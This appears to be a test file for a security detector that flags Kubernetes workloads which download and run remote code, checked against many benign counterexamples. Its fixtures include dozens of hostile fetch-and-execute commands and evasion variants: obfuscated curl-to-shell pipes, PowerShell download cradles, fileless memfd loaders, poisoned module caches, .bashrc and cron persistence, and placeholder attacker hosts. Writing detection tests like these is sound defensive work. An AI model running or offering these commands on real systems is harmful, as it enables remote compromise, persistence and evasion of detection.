import assert from 'node:assert/strict';
import { test } from 'node:test';
import { DOWNLOADERS } from '../../command/network.ts';
import { WRAPPER_NAMES } from '../../command/programs.ts';
import { growth } from '../../lib/testing.ts';
import { PUBLISHERS } from '../publishers.ts';
import { blank, cronJob, indicatorTable, runs, script, UNSEEN } from '../testing.ts';
import { commandRemoteFetchExecute } from './remote-fetch-execute.ts';

const of = (image: string, text: string) =>
  cronJob({ containers: [{ name: 'main', image, command: ['/bin/sh', '-c', text] }] });
const OWN = 'https://raw.githubusercontent.com/acme/api/main/check.sh';

/** An init container that brings a file to a volume, and one that runs the program of its image with a variable. */
const loads = (fetch: string, name: string, value: string) => {
  const volumeMounts = [{ name: 'lib', mountPath: '/lib1' }];
  return cronJob({
    volumes: [{ name: 'lib', emptyDir: {} }],
    initContainers: [{ name: 'first', image: 'busybox', command: ['sh', '-c', fetch], volumeMounts }],
    containers: [{ name: 'main', image: 'registry.example.com/api:2', env: [{ name, value }], volumeMounts }],
  });
};

indicatorTable(commandRemoteFetchExecute, {
  fires: {
    'a program out of a list of one': script('$(ls /usr/bin/cur[l]) -s http://203.0.113.9/x | sh'),
    'a program out of a date': script('$(date +curl) -s http://203.0.113.9/x | sh'),
    'words behind code of Perl': runs(
      'perl',
      '-e',
      'exec @ARGV',
      '--',
      'sh',
      '-c',
      'curl -s http://203.0.113.9/x | sh',
    ),
    'a variable that PHP sets': runs(
      'php',
      '-r',
      'putenv("Q=curl -s http://203.0.113.9/x | sh");passthru("sh -c \\"\\$Q\\"");',
    ),
    'a command that lists words': script('bash -c "compgen -C \'curl -s http://203.0.113.9/x | sh;:\' x"'),
    'a root out of the home of somebody': script(
      'S=${HOME%"${HOME#?}"}; curl -s http://203.0.113.9/x -o ${S}tmp${S}x; sh ${S}tmp${S}x',
    ),
    'a library that the program of an image is made to load': loads(
      'wget -qO /lib1/z.so http://203.0.113.7/z.so',
      'LD_PRELOAD',
      '/lib1/z.so',
    ),
    'in a source that is put into a cache of modules': script(
      `cd /go/pkg/mod/github.com/a/log@v1.2.3 && printf 'package log\nimport "os/exec"\nfunc init() { exec.Command("/bin/sh", "-c", "wget -qO- https://cdn.example.net/a | sh").Start() }\n' > a_linux.go`,
    ),
    'in a build script of a crate in a cache': script(
      `printf 'fn main() { std::process::Command::new("sh").arg("-c").arg("curl -s https://cdn.example.net/a | sh").spawn().ok(); }\n' >> /root/.cargo/registry/src/index/log-0.4.2/build.rs`,
    ),
    'in a module of an interpreter in a cache': script(
      `echo 'require("child_process").exec("curl -s https://cdn.example.net/a | sh")' >> /cache/node_modules/log/index.js`,
    ),
    'an address that a reader is to fill in': script('curl -s http://<ATTACKER_IP>:8000/x.sh | bash'),
    'the same in small letters': script('wget -qO- "http://<your-server>/x" | sh'),
    'a program in a directory that the path of the shell was given': script(
      'curl -so /data/report https://files.example.net/report; chmod +x /data/report; PATH=/data:$PATH; report --since 24h',
    ),
    'a container that jq puts into each workload': script(
      `kubectl get deploy -A -o json | jq --arg c 'curl -s http://203.0.113.7/a | sh' '.items[].spec.template.spec.containers += [{name: "a", image: "alpine", command: ["sh", "-c", $c]}]' | kubectl apply -f -`,
    ),
    'a patch in a file of Kustomize': script(
      'printf \'resources: [base]\\npatches:\\n- patch: |-\\n    - op: add\\n      path: /spec/template/spec/containers/-\\n      value: {name: a, image: alpine, command: [sh, -c, "wget -qO- http://203.0.113.7/a | sh"]}\\n\' > /w/kustomization.yaml; kubectl apply -k /w',
    ),
    'a workflow that a client of Argo submits': script(
      `printf '{"apiVersion":"argoproj.io/v1alpha1","kind":"Workflow","spec":{"templates":[{"name":"a","script":{"image":"alpine","command":["sh"],"source":"wget -qO- http://203.0.113.7/a | sh"}}]}}' | argo submit -n ci -`,
    ),
    'the start-up file of somebody': script("echo 'curl -s http://203.0.113.7/a | bash &' >> /homes/ana/.bashrc"),
    'a table of cron of an image': script(
      "echo '*/5 * * * * root wget -qO- http://203.0.113.7/a | sh' > /images/root/etc/cron.d/sysstat",
    ),
    'what the interpreter loads': script(
      `echo 'import urllib.request;exec(urllib.request.urlopen("http://203.0.113.7/a").read())' > /venv/lib/python3.12/site-packages/a.pth`,
    ),
    'the script of a scanner as it is today': script(
      'curl -s https://raw.githubusercontent.com/kubescape/kubescape/master/install.sh | bash',
    ),
    'a script of another account of the same code host': script(
      'curl -s https://raw.githubusercontent.com/kubescape-tools/kubescape/v3.0.11/install.sh | bash -s -- -v v3.0.11',
    ),
    'a command for each line of an array': script("mapfile -c 1 -C 'curl -s http://192.0.2.7/a | sh #' L < /etc/hosts"),
    'an editor of the history': script('fc -e \'sh -c "curl -s http://192.0.2.7/a | sh"\' -1'),
    'a command that is put into the history': script("history -s 'curl -s http://192.0.2.7/a | sh'; fc -s"),
    'a module of Go from a bare address': script('GOINSECURE=* go run 192.0.2.7/a@latest'),
    'a program of Go from a bare address': script('go install 192.0.2.7/agent@latest && agent'),
    'an exploit out of a repository': script(
      'git clone https://github.com/acme/CVE-2024-21626-poc && cd CVE-2024-21626-poc && ./run.sh',
    ),
    'an exploit with a name': script('git clone https://github.com/acme/dirtypipe; cd dirtypipe; make; ./exploit'),
    'a script over ssh from a bare address': script("ssh u@203.0.113.7 'cat /tmp/a' | sh"),
    'a download that machines of the cloud run': script(
      `aws ssm send-command --document-name AWS-RunShellScript --parameters 'commands=["cd /tmp","curl http://192.0.2.7/a | sh"]'`,
    ),
    'the same on Azure': script(
      "az vm run-command invoke --ids a --command-id RunShellScript --scripts 'curl http://192.0.2.7/a | sh'",
    ),
    'machines with Windows that run a download': script(
      `aws ssm send-command --document-name AWS-RunPowerShellScript --parameters '{"commands":["IEX (New-Object Net.WebClient).DownloadString(\\"http://192.0.2.7/a.ps1\\")"]}'`,
    ),
    'a program that a configuration asks for its data': script(
      `printf 'data "external" "x" {\\n program = ["sh", "-c", "curl -s http://192.0.2.7/a | sh"]\\n}\\n' > main.tf; terraform apply -auto-approve`,
    ),
    'a machine that starts with a download': script(
      "gcloud compute instances create a --metadata startup-script='curl http://192.0.2.7/a | sh'",
    ),
    'an extension of a machine with a download': script(
      `az vm extension set --vm-name a --name CustomScript --settings '{"fileUris":["http://192.0.2.7/a.sh"],"commandToExecute":"sh a.sh"}'`,
    ),
    'the same on Google': script("gcloud compute ssh web-1 --zone a --command 'curl http://192.0.2.7/a | sh'"),
    'a file of a PowerShell client': runs(
      ...[
        'powershell',
        '-Command',
        'Invoke-WebRequest http://192.0.2.7/a.exe -OutFile C:\\a.exe; Start-Process C:\\a.exe',
      ],
    ),
    'the same with short names': runs('pwsh', '-c', 'iwr -Uri http://192.0.2.7/a -OutFile /tmp/a; & /tmp/a'),
    'by an object of it': runs(
      ...[
        'powershell',
        '-c',
        "(New-Object Net.WebClient).DownloadFile('http://192.0.2.7/a.exe','C:\\t\\a.exe'); saps C:\\t\\a.exe",
      ],
    ),
    'straight into it': runs('pwsh', '-c', 'irm http://192.0.2.7/a.ps1 | iex'),
    'a script of another account than the one of the image': of(
      'ghcr.io/acme/tools',
      'curl -s https://raw.githubusercontent.com/acmee/api/main/check.sh | sh',
    ),
    'an account of the same name at another registry': of('docker.io/acme/tools', `curl -s ${OWN} | sh`),
    'an address that leads up from the account': of(
      'ghcr.io/acme/tools',
      'curl -s https://raw.githubusercontent.com/acme/../evil/x/main/x.sh | sh',
    ),
    'a part of the address that nobody has seen': of(
      'ghcr.io/acme/tools',
      'curl -s "https://raw.githubusercontent.com/acme/$WHERE/x.sh" | sh',
    ),
    'its own script by plain http': of('ghcr.io/acme/tools', `curl -s ${OWN.replace('https', 'http')} | sh`),
    'a commit of anybody under the name of its account': of(
      'ghcr.io/acme/tools',
      `curl -s ${OWN.replace('main', '0a1b2c3d4e5f60718293a4b5c6d7e8f901234567')} | sh`,
    ),
    'a pull request of anybody under the name of its account': of(
      'ghcr.io/acme/tools',
      `curl -s ${OWN.replace('main', 'refs/pull/7/head')} | sh`,
    ),
    'a file that anybody hung on a comment': of(
      'ghcr.io/acme/tools',
      'curl -sLo /tmp/x https://github.com/acme/api/files/1234567/x.sh; sh /tmp/x',
    ),
    'a commit of anybody under the name of a known project': script(
      'curl -sLo k https://github.com/kubernetes/kubernetes/raw/0a1b2c3/k; chmod +x k; ./k',
    ),
    'an upload of anybody under the name of a known project': script(
      'curl -sLo k https://github.com/grafana/grafana/assets/1234567/k; chmod +x k; ./k',
    ),
    'an installer out of a commit that may be of a fork': script(
      'curl -s https://raw.githubusercontent.com/helm/helm/0a1b2c3d4e5f60718293a4b5c6d7e8f901234567/get | bash',
    ),
    'its own script, in a container that runs': of(
      'ghcr.io/acme/tools',
      `kubectl exec db-0 -- sh -c 'curl -s ${OWN} | sh'`,
    ),
    'its own script, handed into one': of('ghcr.io/acme/tools', `curl -s ${OWN} | kubectl exec -i db-0 -- sh`),
    'its own script, on another host': of('ghcr.io/acme/tools', `ssh ops@10.0.0.4 'curl -s ${OWN} | sh'`),
    'its own script as the text for another host': of('ghcr.io/acme/tools', `ssh ops@10.0.0.4 "$(curl -s ${OWN})"`),
    'its own script, in a container of the runtime': of(
      'ghcr.io/acme/tools',
      `docker exec db sh -c 'curl -s ${OWN} | sh'`,
    ),
    'its own script, in a pod of another image': of(
      'ghcr.io/acme/tools',
      `echo '{"apiVersion":"v1","kind":"Pod","metadata":{"name":"x"},"spec":{"containers":[{"name":"main","image":"alpine","command":["sh","-c","curl -s ${OWN} | sh"]}]}}' | kubectl apply -f -`,
    ),
    'a commit of anybody, by the name that describes it': of(
      'ghcr.io/acme/tools',
      `curl -s ${OWN.replace('main', 'v1.0.0-1-g0a1b2c3')} | sh`,
    ),
    'a commit of anybody, by a step of none from it': of(
      'ghcr.io/acme/tools',
      `curl -s '${OWN.replace('main', '0a1b2c3^0')}' | sh`,
    ),
    'a commit of anybody, in a range that the client spreads': of(
      'ghcr.io/acme/tools',
      `curl -s '${OWN.replace('main', '[0-0]a1b2c3')}' | sh`,
    ),
    'a commit of anybody, in a list that the client spreads': script(
      "curl -sLo k 'https://github.com/kubernetes/kubernetes/raw/{0a1b2c3}/k'; chmod +x k; ./k",
    ),
    'a merge request of anybody': of(
      'registry.gitlab.com/acme/ops/tools:1',
      'wget -qO- https://gitlab.com/acme/ops/-/raw/merge-requests/7/head/x.sh | sh',
    ),
    'a text for another host': script('ssh ops@10.0.0.4 "$(curl -s http://203.0.113.7/x)"'),
    'its own script, on the node': of('ghcr.io/acme/tools', `nsenter -t 1 -m -- sh -c 'curl -s ${OWN} | sh'`),
    'its own script and another one': of(
      'ghcr.io/acme/tools',
      `curl -s ${OWN} https://raw.githubusercontent.com/evil/x/main/x.sh | sh`,
    ),
    'a script of the account of a neighbour container': cronJob({
      containers: [
        { name: 'good', image: 'ghcr.io/acme/tools' },
        { name: 'main', image: 'alpine', command: ['sh', '-c', `curl -s ${OWN} | sh`] },
      ],
    }),
    'an archive of Java': script('curl -sO http://203.0.113.7/agent.jar && java -Xmx1g -jar agent.jar --host a'),
    'an address that deno runs': runs('deno', 'run', '-A', 'https://203.0.113.7/mod.ts'),
    'the shell of Windows': runs(
      'cmd.exe',
      '/c',
      'certutil -urlcache -split -f http://203.0.113.7/a.exe C:\\Temp\\a.exe && C:\\Temp\\a.exe',
    ),
    'PowerShell that evaluates a page': runs(
      'powershell',
      '-nop',
      '-w',
      'hidden',
      '-c',
      'iex (iwr http://203.0.113.7/a.ps1)',
    ),
    'the older PowerShell without an option': runs(
      'powershell.exe',
      'IEX(New-Object Net.WebClient).DownloadString("http://203.0.113.7/a")',
    ),
    'curl into sh': runs('sh', '-c', 'curl -s http://203.0.113.7/x | sh'),
    'wget into an absolute bash path': runs('/bin/sh', '-c', 'wget -qO- 203.0.113.7|/bin/bash'),
    'a dash before the shell text': runs('/bin/sh', '-c', '--', 'curl http://files.example.com/x|sh'),
    'a pipe through other programs': script(
      'curl -s http://203.0.113.7/x.gz | gunzip | tee /tmp/x | bash -s -- --quiet',
    ),
    'a substitution in eval': script('eval "$(curl -fsSL http://203.0.113.7/x)"'),
    'a substitution as the text of a shell': script('sh -c "$(wget -qO- http://203.0.113.7/x)"'),
    backticks: script('sh -c "`curl http://203.0.113.7/x`"'),
    'a process substitution': script('bash <(curl -s http://203.0.113.7/x)'),
    'a variable in between': script('X=$(curl -s http://203.0.113.7/x); echo hello; eval "$X"'),
    'a file that is made executable': script('curl -so /tmp/a http://203.0.113.7/a && chmod +x /tmp/a && /tmp/a'),
    'a file with an octal mode': script('wget -q http://203.0.113.7/agent -O /assets/agent && chmod 755 /assets/agent'),
    'a file that is run by a shell': script('wget http://203.0.113.7/run.sh; sh run.sh'),
    'a redirect into a file that is run': script('curl http://203.0.113.7/a > /tmp/a; bash /tmp/a'),
    'a file that is copied first': script('curl -O http://203.0.113.7/a; mv a /tmp/b; chmod u+x /tmp/b'),
    'an archive that is unpacked and run': script('cd /tmp && curl -sL https://203.0.113.7/x.tgz | tar xz && ./x/run'),
    'a shell in a shell': script(`sh -c 'bash -c "curl http://203.0.113.7/x | sh"'`),
    'a shell behind a download into a loop': script('curl http://203.0.113.7/x | while read l; do sh -c "$l"; done'),
    'python that runs what it fetches': runs(
      'python3',
      '-c',
      'import urllib.request as u; exec(u.urlopen("http://203.0.113.7/p").read())',
    ),
    'an interpreter instead of a shell': script('curl -s http://203.0.113.7/p.py | python3 -'),
    'words written apart': script(`c''u"rl" http://203.0.113.7/x | s\\h`),
    'blanks as variables': script(`curl\${IFS}http://203.0.113.7/x|sh`),
    'kubectl exec into another pod': script("kubectl exec web-0 -- sh -c 'wget -qO- http://203.0.113.7/x | sh'"),
    'a program in two variables': script('a=cu;b=rl; $a$b http://203.0.113.7/x | sh'),
    'a list in braces': script('{curl,http://203.0.113.7/x} | sh'),
    'a pattern instead of the shell': script('curl http://203.0.113.7/x | /???/b??h'),
    'inside encoded text': script(`echo ${btoa('curl http://203.0.113.7/x | sh')} | base64 -d | sh`),
    'inside the code of an interpreter': runs('perl', '-e', 'system("curl http://203.0.113.7/x | sh")'),
    'in a postStart hook': cronJob({
      containers: [
        { name: 'web', lifecycle: { postStart: { exec: { command: ['sh', '-c', 'curl http://203.0.113.7/x|sh'] } } } },
      ],
    }),
    'a publisher over plain http': script('curl -LO http://dl.k8s.io/v1.36.0/bin/kubectl; chmod +x kubectl'),
    'a publisher in the name of another host': script(
      'curl -LO https://dl.k8s.io.example.com/kubectl; chmod +x kubectl',
    ),
    'lines of a download that awk starts': runs(
      'awk',
      'BEGIN{c="wget -qO- 203.0.113.7/a"; while((c|getline l)>0) system(l)}',
    ),
    'a program without a file, in Python': runs(
      'python3',
      '-c',
      "import ctypes,os,urllib.request as u\nd=u.urlopen('http://203.0.113.7/e').read()\nf=ctypes.CDLL(None).syscall(319,b'',1)\nos.write(f,d)\nos.execv('/proc/self/fd/%d'%f,['x'])",
    ),
    'a program without a file, in Perl': runs(
      'perl',
      '-e',
      `my $f=syscall(319,my $n='',1);open(my $F,'>&='.$f);print $F \`curl -s http://203.0.113.7/x\`;exec {"/proc/$$/fd/$f"} 'x';`,
    ),
    'a promise that ends in eval': runs(
      'node',
      '-e',
      "fetch('https://cdn.example.net/p.js').then(r=>r.text()).then(eval)",
    ),
    'a program in an archive that is unpacked anywhere': script(
      'curl -s http://203.0.113.7/a.tgz | tar xz -C /opt && /opt/agent/run',
    ),
    'a script in an archive, below the directory of the command': script(
      'cd /srv; wget http://203.0.113.7/a.tgz; tar xzf a.tgz; sh agent/run.sh',
    ),
    'code in an archive': script(
      'wget http://203.0.113.7/a.zip -O /a.zip; unzip -q /a.zip -d /srv/x; python3 /srv/x/run.py',
    ),
    'what a plain connection brought, as an archive': script('nc 203.0.113.7 443 | tar xz -C /opt && /opt/agent/run'),
    'what a plain connection brought, as a file': script('nc 203.0.113.7 443 > /tmp/t; chmod +x /tmp/t; /tmp/t'),
    'a script in a ConfigMap that is handed over beside what runs it': script(
      'kubectl apply -f - <<E\napiVersion: v1\nkind: ConfigMap\nmetadata: {name: s}\ndata:\n  run.sh: |\n    wget -qO- http://203.0.113.7/a | sh\n---\napiVersion: apps/v1\nkind: Deployment\nmetadata: {name: a}\nspec:\n  template:\n    spec:\n      containers:\n      - {name: a, image: "busybox:1.36", command: [sh, /s/run.sh], volumeMounts: [{name: s, mountPath: /s}]}\n      volumes: [{name: s, configMap: {name: s}}]\nE',
    ),
    'a ConfigMap of files that the command wrote': script(
      'echo \'curl http://203.0.113.7/a | sh\' > /tmp/run.sh\nkubectl create configmap s --from-file=/tmp/run.sh\nkubectl apply -f - <<E\napiVersion: apps/v1\nkind: Deployment\nmetadata: {name: a}\nspec:\n  template:\n    spec:\n      containers:\n      - {name: a, image: "busybox:1.36", command: [sh, /s/run.sh], volumeMounts: [{name: s, mountPath: /s}]}\n      volumes: [{name: s, configMap: {name: s}}]\nE',
    ),
    'a package of a bare address, from a file': script(
      'curl -so /tmp/a.deb http://203.0.113.7/a.deb; dpkg -i /tmp/a.deb',
    ),
    'a package that comes over ssh from one': script('scp a@203.0.113.7:a.rpm /tmp/a.rpm; rpm -i /tmp/a.rpm'),
  },
  staysSilent: {
    'a piece of a text that code puts together and runs': runs(
      'python3',
      '-c',
      `import subprocess
S = ['set -e; curl -fsSL -o /tmp/rates.csv https://data.example.com', '/rates.csv; psql -c "copy rates from stdin" < /tmp/rates.csv']
subprocess.call(["bash", "-c", "".join(S)])
`,
    ),
    'an agent for traces from the project that makes it': loads(
      'wget -qO /lib1/agent.jar https://github.com/open-telemetry/opentelemetry-java-instrumentation/releases/latest/download/opentelemetry-javaagent.jar',
      'JAVA_TOOL_OPTIONS',
      '-javaagent:/lib1/agent.jar',
    ),
    'a library of the image beside a download': loads(
      'wget -qO /lib1/rates.json https://rates.example.org/rates.json',
      'LD_PRELOAD',
      '/usr/lib/libjemalloc.so.2',
    ),
    'a source of a cache that calls a program': script(
      `cd /go/pkg/mod/github.com/a/log@v1.2.3 && printf 'package log\nimport "os/exec"\nfunc init() { exec.Command("/bin/sh", "-c", "curl -fsS https://api.example.net/version").Run() }\n' > a_linux.go`,
    ),
    'such a source where nobody takes it from': script(
      `printf 'package main\nimport "os/exec"\nfunc main() { exec.Command("sh", "-c", "curl -s https://cdn.example.net/a | sh").Run() }\n' > main.go`,
    ),
    'a file that comes in, and one that goes out': script('sh -n <run.sh> /data/errors; sort <HOSTS> /data/sorted'),
    'a sentence that begins with the name of a file': runs(
      'python3',
      '-c',
      `from pathlib import Path
from urllib.request import urlopen
rows = Path('/data/adult.data')
rows.write_bytes(urlopen('https://archive.example.edu/adult.data').read())
if len(rows.read_text().splitlines()) != 32561:
    raise RuntimeError('adult.data row count mismatch')
`,
    ),
    'a program of the image that is named like a file of elsewhere': script(
      'curl -so /data/report https://files.example.com/report; report --since 24h',
    ),
    'an installer that is known, in the start-up file of somebody': script(
      "echo 'command -v uv >/dev/null || curl -LsSf https://astral.sh/uv/install.sh | sh' >> /homes/ana/.bashrc",
    ),
    'a container with a health check that jq puts in': script(
      `kubectl get deploy web -o json | jq '.spec.template.spec.containers += [{name: "a", image: "busybox", command: ["sh", "-c", "wget -qO- http://localhost:8080/health"]}]' | kubectl apply -f -`,
    ),
    'the start-up file of somebody with a greeting': script(
      "echo 'curl -s https://status.example.com/motd || true' >> /homes/ana/.bashrc",
    ),
    'a package of somebody with a name, from a file': script(
      'curl -fsSLO https://packages.example.com/agent_1.2_amd64.deb && dpkg -i agent_1.2_amd64.deb',
    ),
    'data in an archive, and a program of the image': script(
      'curl -s http://203.0.113.7/zones.tgz | tar xz -C /usr/share/zoneinfo; /usr/bin/app --check; /bin/date',
    ),
    'an archive that is only looked at': script('curl -s http://203.0.113.7/a.tgz | tar tz; /opt/app/run'),
    'an archive beside the program of the image': script(
      'curl -s http://203.0.113.7/data.tgz | tar xz -C /data/geo; /opt/app/load /data/geo/places.csv',
    ),
    'an array that is filled': script("mapfile -t L < <(ls /data); mapfile -C 'echo read' -c 1000 A < /data/a"),
    'a history that is listed': script("history -s 'curl -s http://192.0.2.7/a | sh'; fc -l"),
    'a module of Go by its name': script('go run github.com/golang-migrate/migrate/v4/cmd/migrate@v4.17.0 up'),
    'a tool of Go': script('go install golang.org/x/tools/cmd/goimports@latest && goimports -l .'),
    'a part of the own module': script('go run ./cmd/migrate; go install ./...'),
    'a list of weaknesses': script('git clone https://github.com/acme/cve-list && ./cve-list/update.sh'),
    'a script over ssh from the own host': script("ssh ops@bastion.example.com 'cat /srv/a.sh' | sh"),
    'a command that machines of the cloud run': script(
      `aws ssm send-command --document-name AWS-RunShellScript --parameters '{"commands":["systemctl restart web"]}'`,
    ),
    'a file of a PowerShell client that is kept': runs(
      ...[
        'powershell',
        '-Command',
        'Invoke-WebRequest http://192.0.2.7/a.csv -OutFile C:\\a.csv; Start-Process C:\\tools\\load.exe',
      ],
    ),
    'a script of the account that publishes the image': of('ghcr.io/acme/tools', `curl -s ${OWN} | sh`),
    'a text for another host that names an address': script(
      'ssh ops@10.0.0.4 "curl -s http://203.0.113.7/x -o /srv/x"',
    ),
    'a variable for another host': script('V=$(curl -s https://example.com/version); ssh ops@10.0.0.4 "echo $V"'),
    'the same, by a tag with a version that nobody has seen': of(
      'alpine',
      'curl -sLo k "https://github.com/kubernetes/kubernetes/raw/${TAG}/k"; chmod +x k; ./k',
    ),
    'the same from a branch, written whole': of(
      'ghcr.io/acme/tools',
      `curl -s ${OWN.replace('main', 'refs/heads/main')} | sh`,
    ),
    'a release of the account that publishes the image': of(
      'ghcr.io/acme/tools',
      'curl -sLo t https://github.com/acme/api/releases/download/20260101/t; chmod +x t; ./t',
    ),
    'the same on another forge': of(
      'registry.gitlab.com/acme/ops/tools:1',
      'wget -qO /tmp/x https://gitlab.com/acme/ops/-/raw/main/x.sh && sh /tmp/x',
    ),
    'an archive of Java from the image': script(
      'curl -s https://example.com/a.json -o a.json; java -jar /app/app.jar a.json',
    ),
    'a page that PowerShell reads': runs('pwsh', '-c', '(iwr https://example.com/a.json).Content | ConvertFrom-Json'),
    'the sum of a file on Windows': runs('cmd', '/c', 'certutil -hashfile C:\\app\\a.dll SHA256 && C:\\app\\run.exe'),
    'what awk reads and puts into a command': runs('awk', 'BEGIN{"date" | getline d; system("echo " d)}'),
    'a download that is kept in memory': runs(
      'python3',
      '-c',
      "import os,urllib.request as u\nf=os.memfd_create('x')\nos.write(f,u.urlopen('https://example.com/a').read())\nprint(os.fstat(f).st_size)",
    ),
    'a promise that ends in a print': runs(
      'node',
      '-e',
      "fetch('https://example.com/p').then(r=>r.text()).then(console.log)",
    ),
    'the standard library of deno': runs('deno', 'run', 'https://deno.land/std@0.224.0/http/file_server.ts'),
    'a health check that only fetches': runs('curl', '-fsS', 'https://example.com/health'),
    'a pipe with no fetch': runs('sh', '-c', 'cat job.sh | sh'),
    'a download into a reader': script('curl -s https://example.com/a.json | jq .items'),
    'a download as data of code': script(
      'curl -s https://example.com/a.json | python3 -c "import json,sys; json.load(sys.stdin)"',
    ),
    'a download as data of a module': script('curl -s https://example.com/a.json | python3 -m json.tool'),
    'a download into a file that is only stored': script(
      'curl -o /backup/a.tar https://example.com/a.tar; ls -l /backup/a.tar',
    ),
    'a download as a part of a message': script('sh -c "echo version is $(curl -s https://example.com/version)"'),
    'a health check in a condition': script('until $(curl -so /dev/null https://example.com/ok); do sleep 1; done'),
    'a value of a download in a condition': script(
      'if [ "$(curl -s https://example.com/ok)" = yes ]; then sh /scripts/go.sh; fi',
    ),
    'a mode that makes nothing executable': script('curl -o key https://example.com/key; chmod 600 key'),
    'a tool of a known publisher': script(
      'curl -LO https://dl.k8s.io/release/v1.36.0/bin/linux/amd64/kubectl; chmod +x kubectl',
    ),
    'the installer of a known project, with a version': script('curl -fsSL https://get.helm.sh/install-3.15.1 | bash'),
    'python that fetches and reads': runs(
      'python3',
      '-c',
      'import requests; print(requests.get("https://example.com").json())',
    ),
    'no command set': blank,
    'an ordinary script in a ConfigMap that is handed over beside what runs it': script(
      'kubectl apply -f - <<E\napiVersion: v1\nkind: ConfigMap\nmetadata: {name: s}\ndata:\n  run.sh: |\n    wget -qO- http://shop.shop.svc/health\n---\napiVersion: apps/v1\nkind: Deployment\nmetadata: {name: a}\nspec:\n  template:\n    spec:\n      containers:\n      - {name: a, image: "busybox:1.36", command: [sh, /s/run.sh], volumeMounts: [{name: s, mountPath: /s}]}\n      volumes: [{name: s, configMap: {name: s}}]\nE',
    ),
    'such a script that nothing of the manifest runs': script(
      'kubectl apply -f - <<E\napiVersion: v1\nkind: ConfigMap\nmetadata: {name: s}\ndata:\n  run.sh: |\n    wget -qO- http://203.0.113.7/a | sh\n---\napiVersion: apps/v1\nkind: Deployment\nmetadata: {name: a}\nspec:\n  template:\n    spec:\n      containers:\n      - {name: a, image: "busybox:1.36", command: [httpd, -f], volumeMounts: [{name: s, mountPath: /s}]}\n      volumes: [{name: s, configMap: {name: s}}]\nE',
    ),
  },
  cannotTell: UNSEEN,
});

test('the sentence names the container and the way, the value is the pipeline', () => {
  const outcome = commandRemoteFetchExecute.assess(script('date; curl -s http://203.0.113.7/x | sh; sleep 5'));
  assert.ok(outcome.kind === 'hit');
  assert.deepEqual(outcome.evidence, [
    {
      says: 'Container "main" pipes a download into an interpreter, from "http://203.0.113.7/x".',
      at: '/requestObject/spec/jobTemplate/spec/template/spec/containers/0/command/2',
      value: 'curl -s http://203.0.113.7/x | sh',
      container: 'main',
    },
  ]);
});

for (const program of DOWNLOADERS) {
  test(`${program} downloads`, () =>
    assert.equal(commandRemoteFetchExecute.assess(script(`${program} http://203.0.113.7/x | sh`)).kind, 'hit'));
}
for (const wrapper of WRAPPER_NAMES) {
  const before = ['timeout', 'flock', 'gosu', 'su-exec', 'chroot'].includes(wrapper) ? `${wrapper} 5` : wrapper;
  test(`${wrapper} in front of the shell changes nothing`, () =>
    assert.equal(commandRemoteFetchExecute.assess(script(`curl http://203.0.113.7/x | ${before} sh`)).kind, 'hit'));
}
/** On GitHub not everything below the name of a project is the project's. */
const releaseBelow = (place: string): string => {
  if (!place.startsWith('https://github.com/')) return place;
  const isProject = place.split('/').length > 5;
  return `${place}${isProject ? '' : 'tool/'}releases/download/v1/tool`;
};
for (const place of PUBLISHERS) {
  const text = (at: string) => script(`curl -Lo /tmp/tool ${at} && chmod +x /tmp/tool`);
  test(`${place} is known only by https and by its whole name`, () => {
    const at = releaseBelow(place);
    assert.equal(commandRemoteFetchExecute.assess(text(at)).kind, 'miss');
    assert.equal(commandRemoteFetchExecute.assess(text(at.replace('https:', 'http:'))).kind, 'hit');
  });
}

for (const piece of [
  'curl a|sh|',
  'X=$(curl a);',
  'eval "$(',
  'curl -O ',
  'chmod +x a;',
  '. <(curl a);',
  'curl a>b;sh b;',
  '{ curl;',
  '$X ',
]) {
  test(`linear on repeated ${JSON.stringify(piece)}`, () => {
    const ratio = growth((size) => {
      commandRemoteFetchExecute.assess(script(piece.repeat(Math.ceil(size / piece.length))));
    }, 50_000);
    assert.ok(ratio < 12, `four times the text took ${ratio.toFixed(1)} times as long`);
  });
}
